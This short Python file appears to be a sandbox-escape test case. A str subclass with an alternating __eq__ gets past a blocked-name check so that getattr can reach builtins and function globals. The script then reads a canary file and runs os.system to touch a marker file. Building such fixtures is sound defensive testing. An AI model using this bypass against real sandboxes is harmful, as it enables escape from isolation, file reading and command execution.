"""getattr with a str subclass whose __eq__ says no to the blocked-name check and yes to the lookup after it."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
class Name(str):
    calls = 0
    def __hash__(self):
        return str.__hash__(self)
    def __eq__(self, other):
        Name.calls += 1
        return Name.calls % 2 == 0 and str.__eq__(self, other)
def walk(obj, name):
    for _ in range(4):
        try:
            return getattr(obj, Name(name))
        except AttributeError as e:
            print("refused", name, e)
b = walk(len, "_" * 2 + "self" + "_" * 2)
g = walk(Value.backward, "_" * 2 + "globals" + "_" * 2)
print(b, g)
print(b.open("@CANARY@").read())
g["__builtins__"]["__import__"]("os").system("touch @MARKERDIR@/lying_getattr")
